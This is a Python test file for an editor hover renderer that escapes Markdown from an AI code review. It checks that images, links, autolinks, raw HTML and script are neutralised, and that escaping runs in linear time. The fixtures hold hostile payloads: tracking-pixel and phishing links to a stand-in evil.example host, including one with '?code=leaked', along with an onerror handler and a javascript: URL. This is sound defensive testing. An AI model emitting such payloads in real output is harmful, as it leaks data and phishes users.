"""A model's Markdown shown in a hover: words and code stay readable; images, links, autolinks and
raw HTML are neutralised; and a hover rendered from a hostile review carries none of them."""

from __future__ import annotations

import json
import time

import pytest

from ace_lsp.orchestrator.ace import Review
from ace_lsp.orchestrator.code import spans
from ace_lsp.orchestrator.code.markdown import code, escape
from ace_lsp.orchestrator.code.review import parse_review
from ace_lsp.orchestrator.types import LineRange
from ace_lsp.server.hover import render

ESCAPES = [
    pytest.param("Compare to None with `is`.", "Compare to None with `is`.", id="inline-code"),
    pytest.param("Plain words, **bold** and _em_.", "Plain words, **bold** and _em_.", id="prose"),
    pytest.param(
        "![pixel](https://evil.example/p.png?repo=acme)",
        "!&#91;pixel&#93;(`https://evil.example/p.png?repo=acme`)",
        id="image",
    ),
    pytest.param(
        "See [the docs](http://evil.example/login).",
        "See &#91;the docs&#93;(`http://evil.example/login`).",
        id="link",
    ),
    pytest.param("[x][ref]\n[ref]: https://evil.example", None, id="reference-link"),
    pytest.param("<https://evil.example/a>", "&lt;`https://evil.example/a`&gt;", id="autolink"),
    pytest.param(
        '<img src="https://evil.example/p.png">',
        '&lt;img src="`https://evil.example/p.png`"&gt;',
        id="html-img",
    ),
    pytest.param("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", id="html"),
    pytest.param("&#60;img src=x&#62;", "&amp;#60;img src=x&amp;#62;", id="entity"),
    pytest.param("Visit www.evil.example/x now.", "Visit `www.evil.example/x` now.", id="bare-www"),
    pytest.param("Docs: https://evil.example/a.", "Docs: `https://evil.example/a`.", id="bare-url"),
    pytest.param("a \\ b", "a \\\\ b", id="backslash"),
    pytest.param("a stray ` backtick", "a stray \\` backtick", id="stray-backtick"),
    pytest.param("keep `![x](http://a)` as code", "keep `![x](http://a)` as code", id="code-kept"),
    pytest.param("`` a ` b ``", "`` a ` b ``", id="double-backticks"),
    pytest.param(
        "```python\nx = a[0] <b> [l](http://a)\n```\nafter [l](y)",
        "```python\nx = a[0] <b> [l](http://a)\n```\nafter &#91;l&#93;(y)",
        id="fence",
    ),
    pytest.param("~~~\n<b>\n~~~", "```\n<b>\n```", id="tilde-fence"),
    pytest.param("```\nunclosed <b>", "```\nunclosed <b>\n```", id="unclosed-fence"),
    pytest.param("````\n```\n````", "````\n```\n````", id="fence-inside-fence"),
    pytest.param("```js evil`x\n", None, id="not-a-fence"),
]


@pytest.mark.parametrize(("text", "expected"), ESCAPES)
def test_escape(text: str, expected: str | None) -> None:
    got = escape(text)
    if expected is not None:
        assert got == expected
    outside_code = got if "`" not in text else ""
    for bad in ("![", "](http", "<img", "<script", "<http", "[ref]:"):
        assert bad not in outside_code


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("mean", "`mean`"),
        ("a`b", "``a`b``"),
        ("`x`", "`` `x` ``"),
        ("two\nlines", "`two lines`"),
        ("", ""),
    ],
)
def test_code(text: str, expected: str) -> None:
    assert code(text) == expected


HOSTILE = [
    "![tracker](https://evil.example/pixel.png?code=leaked)",
    "Click [here](https://evil.example/ace-login) to re-authenticate ACE.",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "<https://evil.example/autolink>",
    "[ok][1]\n\n[1]: https://evil.example/ref",
    "Details at http://evil.example/a and www.evil.example/b.",
    "<a href='javascript:alert(1)'>fix</a>",
]


def test_a_hover_from_a_hostile_review_links_and_loads_nothing() -> None:
    code_text = "def mean(values):\n    return sum(values) / len(values)\n"
    reply = json.dumps({"findings": [{"line": 2, "message": m} for m in HOSTILE]})
    findings = parse_review(reply, code_text, LineRange(0, 1), path="stats.py")
    span = spans.Span("function", "mean", None, 0, 1, 0, len(code_text), "python")
    review = Review("stats.py", span, findings, "claude-3-5-sonnet", 0.0042, ())
    text = render(review)
    for bad in ("![", "](http", "<img", "<a ", "<http", "]: http", "javascript:alert(1)'>"):
        assert bad not in text, bad
    assert "`https://evil.example/pixel.png?code=leaked`" in text  # shown, not loaded
    assert "- **warning** line 2: Click &#91;here&#93;" in text
    # a client that takes plain text gets the words as they are
    assert "![tracker](https://evil.example" in render(review, as_markdown=False)


def test_escape_is_linear_on_hostile_input() -> None:
    n = 100_000
    for text in (
        "`" * n,
        "`` ` " * (n // 5),
        "a" * n + "://",
        "ab+-." * (n // 5),
        "http://" * (n // 7),
        "```\n" * (n // 4),
        "[](" * (n // 3),
    ):
        start = time.perf_counter()
        escape(text)
        assert time.perf_counter() - start < 1.0, text[:10]
